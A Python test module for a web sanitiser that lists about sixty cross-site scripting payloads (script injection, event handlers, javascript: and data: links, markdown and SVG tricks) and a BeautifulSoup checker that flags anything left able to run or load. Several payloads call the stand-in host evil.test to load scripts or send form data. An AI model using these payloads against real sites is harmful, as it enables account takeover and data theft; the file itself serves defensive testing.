"""What somebody hostile writes into a text field, and what a page must never hold because of it.

Every payload names itself `pwned`, so that what it brings can be told from what is ours.
"""

import re

from bs4 import BeautifulSoup, Tag

PAYLOADS = (
    "<script>pwned()</script>",
    "<ScRiPt src=//evil.test/pwned.js></sCrIpT>",
    "<script\x0c>pwned()</script\x0c>",
    "</textarea><script>pwned()</script>",
    "</title><script>pwned()</script>",
    "--><script>pwned()</script><!--",
    "]]><script>pwned()</script>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    '<img src="x" onerror="pwned()">',
    "<img src=x:pwned onerror=pwned() //",
    '<img src="https://evil.test/pwned.gif">',
    "![pwned](https://evil.test/pwned.gif)",
    '![pwned](javascript:pwned() "pwned")',
    '![pwned](x" onerror="pwned())',
    '<svg id="pwned" onload="pwned()">',
    '<svg id="pwned"><script>pwned()</script></svg>',
    '<svg id="pwned"><a xlink:href="javascript:pwned()"><text>x</text></a></svg>',
    '<svg id="pwned"><animate onbegin="pwned()" attributeName="x"></svg>',
    '<math id="pwned"><mi xlink:href="javascript:pwned()">x</mi></math>',
    '<math><mtext><table><mglyph><style id="pwned"><img src=x onerror=pwned()></style>',
    '<iframe src="javascript:pwned()"></iframe>',
    '<iframe srcdoc="<script>pwned()</script>"></iframe>',
    '<object data="data:text/html,<script>pwned()</script>"></object>',
    '<embed src="javascript:pwned()">',
    '<base href="https://evil.test/pwned/">',
    '<form id="pwned" action="https://evil.test/"><input name="pwned"><button>Go</button></form>',
    '<button id="pwned" formaction="javascript:pwned()">Go</button>',
    '<input id="pwned" autofocus onfocus="pwned()">',
    '<style id="pwned">body { display: none }</style>',
    '<p style="background: url(javascript:pwned())">pwned</p>',
    '<link rel="stylesheet" href="https://evil.test/pwned.css">',
    '<meta http-equiv="refresh" content="0; url=https://evil.test/pwned">',
    '<details open ontoggle="pwned()">',
    '<body onload="pwned()">',
    '<video id="pwned"><source onerror="pwned()"></video>',
    '<a href="javascript:pwned()">pwned</a>',
    '<a href="JaVaScRiPt&#58;pwned()">pwned</a>',
    "[pwned](javascript:pwned())",
    "[pwned](JAVASCRIPT:pwned())",
    "[pwned](javascript&colon;pwned())",
    "[pwned](java&#x0A;script:pwned())",
    "[pwned](<java\tscript:pwned()>)",
    "[pwned](vbscript:pwned())",
    "[pwned](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
    '[pwned](https://evil.test/"onmouseover="pwned())',
    "[pwned][1]\n\n[1]: javascript:pwned()",
    "<javascript:pwned()>",
    "<https://evil.test/pwned?\"onclick='pwned()'>",
    "[^pwned]\n\n[^pwned]: <script>pwned()</script>",
    "| a |\n| --- |\n| <img src=x onerror=pwned()> |",
    '```pwned"onclick=pwned()\n<script>pwned()</script>\n```',
    "`<script>pwned()</script>`",
    "# <script>pwned()</script>",
    "> <iframe src=javascript:pwned()>",
    "- [x] <script>pwned()</script>",
    "'\"><script>pwned()</script>",
    "{{ pwned }} {% raw %} ${pwned} #{pwned}",
    '" autofocus onfocus="pwned()" x="',
    "' onmouseover='pwned()' x='",
    "&lt;script&gt;pwned()&lt;/script&gt;",
)

_NEVER = {"iframe", "object", "embed", "base", "style", "math", "frame", "frameset", "applet"}
_OURS = {"svg", "form", "img", "input", "button", "video", "audio", "link", "meta", "source"}
_ADDRESSES = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "background"}
_NAMED_BY = _ADDRESSES | {"id", "class", "name", "content"}
_SCHEMES = {"http", "https", "mailto"}


def dangers(html: str) -> list[str]:
    """What in the page would run, load, send or hide something on behalf of the payloads."""
    return [
        f"{danger}: {tag.name} {tag.attrs}"
        for tag in BeautifulSoup(html, "html.parser").find_all()
        for danger in _dangers_of(tag)
    ]


def _dangers_of(tag: Tag) -> list[str]:
    values = {name.lower(): _flat(value) for name, value in tag.attrs.items()}
    found = [name for name in values if name.startswith("on") or name in {"style", "srcdoc"}]
    found += [name for name in _ADDRESSES & values.keys() if not _is_harmless(values[name])]
    if tag.name in _NEVER:
        found.append("element")
    if tag.name == "script" and (tag.string or not values.get("src", "").startswith("/static/")):
        found.append("script")
    if tag.name in _OURS and any("pwned" in values.get(name, "") for name in _NAMED_BY):
        found.append("theirs")
    return found


def _flat(value: str | list[str]) -> str:
    return value if isinstance(value, str) else " ".join(value)


def _is_harmless(address: str) -> bool:
    """Within the site, or to the web or mail; browsers ignore control characters in schemes."""
    plain = re.sub(r"[\x00-\x20]", "", address)
    scheme = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", plain)
    return scheme is None or scheme[1].lower() in _SCHEMES
